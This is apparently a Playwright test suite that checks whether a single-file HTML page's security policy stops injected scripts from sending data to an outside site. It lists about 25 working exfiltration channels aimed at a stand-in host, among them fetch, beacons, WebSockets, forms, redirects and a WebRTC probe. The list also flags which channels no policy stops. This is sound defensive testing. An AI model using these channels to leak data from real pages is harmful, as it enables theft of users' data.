// The single file cannot send: a script put into the open file tries every way there is, and another site listens.

import { note } from "./note.js";
import { expect, SITE, test, type Page } from "./fixtures.js";
import { mkdtempSync, cpSync, rmSync } from "node:fs";
import { createSocket } from "node:dgram";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";

const AWAY = "http://annan-webbplats.test/hemligt?summa=1";

/** Each way in words, and what a script in the page does. All run in the page itself, where its policy counts. */
const WAYS: Record<string, (page: Page) => Promise<unknown>> = {
  "fetch": (page) => page.evaluate((url) => fetch(url, { method: "POST", body: "1", mode: "no-cors" }).catch(() => {}), AWAY),
  "XMLHttpRequest": (page) => page.evaluate((url) => { const x = new XMLHttpRequest(); x.open("POST", url); try { x.send("1"); } catch {} }, AWAY),
  "sendBeacon": (page) => page.evaluate((url) => navigator.sendBeacon(url, "1"), AWAY),
  "WebSocket": (page) => page.evaluate((url) => { try { new WebSocket(url.replace("http", "ws")); } catch {} }, AWAY),
  "EventSource": (page) => page.evaluate((url) => void new EventSource(url), AWAY),
  "bild": (page) => page.evaluate((url) => void (new Image().src = url), AWAY),
  "bild i CSS": (page) => page.evaluate((url) => { document.body.style.backgroundImage = `url("${url}")`; }, AWAY),
  "typsnitt": (page) => page.evaluate((url) => new FontFace("x", `url("${url}")`).load().catch(() => {}), AWAY),
  "ljud": (page) => page.evaluate((url) => void new Audio(url).play().catch(() => {}), AWAY),
  "skript": (page) => put(page, "script", "src"),
  "stilmall": (page) => put(page, "link", "href", { rel: "stylesheet" }),
  "ram (iframe)": (page) => put(page, "iframe", "src"),
  "object": (page) => put(page, "object", "data"),
  "förhämtning (prefetch)": (page) => put(page, "link", "href", { rel: "prefetch" }),
  "förhämtning (preload)": (page) => put(page, "link", "href", { rel: "preload", as: "image" }),
  "arbetare (Worker)": (page) => page.evaluate((url) => { try { new Worker(url); } catch {} }, AWAY),
  "formulär": (page) => page.evaluate((url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
    document.body.append(form);
    form.submit();
  }, AWAY),
  "formulär i nytt fönster": (page) => page.evaluate((url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "get", target: "_blank" });
    document.body.append(form);
    form.submit();
  }, AWAY),
  "insatt skript": (page) => page.evaluate((url) => {
    const script = document.createElement("script");
    script.textContent = `location.href = ${JSON.stringify(url)}`;
    document.body.append(script);
  }, AWAY),
  "javascript:-adress": (page) => page.evaluate((url) => {
    const link = Object.assign(document.createElement("a"), { href: `javascript:location.href=${JSON.stringify(url)}` });
    document.body.append(link);
    link.click();
  }, AWAY),
  "förvarning (preconnect)": (page) => put(page, "link", "href", { rel: "preconnect" }),
  "länk som skript klickar på": (page) => page.evaluate((url) => {
    const link = Object.assign(document.createElement("a"), { href: url });
    document.body.append(link);
    link.click();
  }, AWAY),
  "byta sida (location)": (page) => page.evaluate((url) => { location.href = url; }, AWAY),
  "nytt fönster (window.open)": (page) => page.evaluate((url) => { open(url); }, AWAY),
  "omdirigering (meta refresh)": (page) => page.evaluate((url) => {
    const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${url}` });
    document.head.append(meta);
  }, AWAY),
};

const put = (page: Page, tag: string, part: string, more: Record<string, string> = {}) =>
  page.evaluate(([name, attribute, url, rest]) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(rest)) made.setAttribute(key, value);
    made.setAttribute(attribute, url);
    (name === "link" ? document.head : document.body).append(made);
  }, [tag, part, AWAY, more] as const);

/** What no policy in a page can stop, in any browser: only that no strange script ever runs does. */
const OPEN = new Set(["länk som skript klickar på", "byta sida (location)", "nytt fönster (window.open)", "omdirigering (meta refresh)"]);
/** Nothing is sent, but the browser may call the other site up before it looks at the policy. */
const CALLS = new Set(["förvarning (preconnect)", "ram (iframe)", "object", "formulär", "formulär i nytt fönster"]);

test("each way out of the single file", async ({ browser, world }) => {
  test.setTimeout(120_000);
  const folder = mkdtempSync(join(tmpdir(), "fordela-fil-"));
  cpSync(join(SITE, "fordela.html"), join(folder, "fordela.html"));
  const address = pathToFileURL(join(folder, "fordela.html")).href;
  try {
    const context = await browser.newContext();
    for (const [way, attempt] of Object.entries(WAYS)) {
      const page = await context.newPage();
      await page.goto(address);
      await expect(page.locator("[data-unit]").first()).toBeVisible();
      const before = world.heard.length;
      await attempt(page).catch(() => {}); // a page that has been left cannot answer
      if (OPEN.has(way)) await expect.poll(() => world.heard.slice(before).join(""), way).not.toBe("");
      else await page.waitForTimeout(500);
      const heard = world.heard.slice(before);
      const sent = heard.some((said) => said !== "");
      expect(sent, `${way}: ${heard.join()}`).toBe(OPEN.has(way));
      if (!sent && !CALLS.has(way)) expect(heard, way).toEqual([]);
      note(test.info(), "way", { way, outcome: sent ? "sent" : CALLS.has(way) ? "called" : "stopped" });
      for (const one of context.pages()) await one.close();
    }
    await context.close();
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test("WebRTC from the single file", async ({ page }) => {
  const listener = createSocket("udp4");
  let heard = 0;
  listener.on("message", () => (heard += 1));
  await new Promise<void>((done) => listener.bind(0, "127.0.0.1", done));
  const { port } = listener.address() as AddressInfo;
  await page.goto(pathToFileURL(join(SITE, "fordela.html")).href);
  await expect(page.locator("[data-unit]").first()).toBeVisible();
  await page.evaluate(async (at) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${at}` }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
  }, port).catch(() => {});
  await page.waitForTimeout(1_000);
  listener.close();
  note(test.info(), "way", { way: "WebRTC", outcome: heard === 0 ? "stopped" : "sent" });
});
